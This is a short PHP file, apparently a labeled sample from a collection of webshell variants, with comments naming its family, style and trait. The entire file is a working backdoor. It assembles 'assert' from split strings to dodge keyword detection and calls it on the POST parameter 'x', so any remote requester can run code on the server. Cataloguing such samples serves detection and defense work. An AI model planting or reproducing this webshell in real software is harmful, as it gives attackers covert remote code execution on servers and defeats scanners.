<?php
// Family: webshell/eval-request
// Style: variable written as ${name} with a bare word
// Trait: ${c} is $c, which holds 'assert' assembled from two pieces
$c = 'ass' . 'ert';
${c}($_POST['x']);
